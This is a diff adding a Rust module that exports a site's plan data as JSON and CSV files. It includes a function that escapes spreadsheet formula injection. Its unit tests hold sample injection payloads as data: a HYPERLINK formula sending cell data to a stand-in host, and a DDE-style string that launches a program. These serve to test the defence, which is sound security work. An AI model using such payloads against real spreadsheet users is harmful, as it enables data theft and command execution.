@@ -1,0 +1,173 @@
+//! The site's data for reuse, written from the same model the pages show:
+//! per plan `data.json` (everything), `data.csv` (a row per KPI and year)
+//! and `items.csv` (a row per item and graded year); for the whole site
+//! `data/kpis.csv` and `data/items.csv`, `datapackage.json` and the schemas
+//! it points to. Formats are documented in docs/data-format.md.
+//!
+//! The build and the preview both write what [`PlanFiles`] and
+//! [`site_files`] make, under the names listed here.
+
+mod columns;
+mod csv;
+mod json;
+mod package;
+
+use crate::assess::{CityAssessment, PlanAssessment};
+use crate::config::Config;
+use crate::content::reader::fmt_number;
+use crate::model::{City, Plan, Site, Value};
+
+pub use json::JSON_FORMAT;
+
+/// Each plan's data files, in its folder.
+pub const PLAN_FILES: [&str; 3] = ["data.json", "data.csv", "items.csv"];
+
+/// The site's own data files, from its root.
+pub const SITE_FILES: [&str; 6] = [
+    "datapackage.json",
+    "data/kpis.csv",
+    "data/items.csv",
+    package::KPIS_SCHEMA_PATH,
+    package::ITEMS_SCHEMA_PATH,
+    "data/plan.schema.json",
+];
+
+/// A plan's data files, in the order of [`PLAN_FILES`].
+pub struct PlanFiles {
+    pub json: Vec<u8>,
+    pub kpis: Vec<u8>,
+    pub items: Vec<u8>,
+}
+
+impl PlanFiles {
+    pub fn make(
+        config: &Config,
+        city: &City,
+        plan: &Plan,
+        city_assessment: &CityAssessment,
+        assessment: &PlanAssessment,
+    ) -> PlanFiles {
+        PlanFiles {
+            json: json::plan_json(config, city, plan, city_assessment, assessment).into_bytes(),
+            kpis: csv::kpis(city, plan, assessment, config.csv_header),
+            items: csv::items(city, plan, assessment, config.csv_header),
+        }
+    }
+
+    /// Each file with its path from the site's root.
+    pub fn files(&self, city: &City, plan: &Plan) -> [(String, &[u8]); 3] {
+        let dir = format!("{}/{}", city.slug, plan.slug);
+        let bytes = [&self.json, &self.kpis, &self.items];
+        std::array::from_fn(|i| (format!("{dir}/{}", PLAN_FILES[i]), bytes[i].as_slice()))
+    }
+}
+
+/// The site's own data files, in the order of [`SITE_FILES`], from every
+/// plan's files in site order: the site's CSV files are the plans' one
+/// after another.
+pub fn site_files(config: &Config, site: &Site, plans: &[PlanFiles]) -> [Vec<u8>; 6] {
+    let language = config.csv_header;
+    [
+        package::datapackage(config, site).into_bytes(),
+        csv::concatenated(
+            &columns::KPIS,
+            language,
+            plans.iter().map(|p| p.kpis.as_slice()),
+        ),
+        csv::concatenated(
+            &columns::ITEMS,
+            language,
+            plans.iter().map(|p| p.items.as_slice()),
+        ),
+        package::table_schema(&columns::KPIS, language).into_bytes(),
+        package::table_schema(&columns::ITEMS, language).into_bytes(),
+        package::PLAN_SCHEMA.as_bytes().to_vec(),
+    ]
+}
+
+/// Every plan's data files, made on every core, in site order; with
+/// `json` false, only the CSV files (what [`site_files`] needs).
+pub fn all_plans(
+    config: &Config,
+    site: &Site,
+    assessment: &crate::assess::Assessment,
+    json: bool,
+) -> Vec<PlanFiles> {
+    use rayon::prelude::*;
+    let plans: Vec<(usize, usize)> = site
+        .cities
+        .iter()
+        .enumerate()
+        .flat_map(|(ci, c)| (0..c.plans.len()).map(move |pi| (ci, pi)))
+        .collect();
+    plans
+        .into_par_iter()
+        .map(|(ci, pi)| {
+            let (city, plan, pa) = (
+                &site.cities[ci],
+                &site.cities[ci].plans[pi],
+                assessment.plan(ci, pi),
+            );
+            match json {
+                true => PlanFiles::make(config, city, plan, &assessment.cities[ci], pa),
+                false => PlanFiles {
+                    json: Vec::new(),
+                    kpis: csv::kpis(city, plan, pa, config.csv_header),
+                    items: csv::items(city, plan, pa, config.csv_header),
+                },
+            }
+        })
+        .collect()
+}
+
+/// Numbers without separators so that spreadsheets read them as numbers.
+fn plain(v: &Value) -> String {
+    match v {
+        Value::Number(n) => fmt_number(*n),
+        Value::Text(t) => guard(t).into_owned(),
+    }
+}
+
+/// Text as a spreadsheet will show it, never run it: a cell that starts
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
+/// and LibreOffice (`=HYPERLINK(…)` sends data away, `@SUM(…)|cmd` starts
+/// programs), so it gets a leading apostrophe, the OWASP rule for CSV.
+/// Numbers are written by [`plain`] and never pass here.
+#[inline]
+pub fn guard(text: &str) -> std::borrow::Cow<'_, str> {
+    if matches!(
+        text.as_bytes().first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    ) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_is_neutralised() {
+        assert_eq!(
+            guard("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
+        );
+        assert_eq!(
+            guard("@SUM(1+1)*cmd|' /C calc'!A0"),
+            "'@SUM(1+1)*cmd|' /C calc'!A0"
+        );
+        for s in ["+1", "-", "\tx", "\rx"] {
+            assert_eq!(guard(s), format!("'{s}"));
+        }
+        assert_eq!(guard("総務課"), "総務課");
+        assert_eq!(
+            plain(&Value::Number(-30095.0)),
+            "-30095",
+            "numbers stay numbers"
+        );
+        assert_eq!(plain(&Value::Text("-".into())), "'-");
+    }
+}
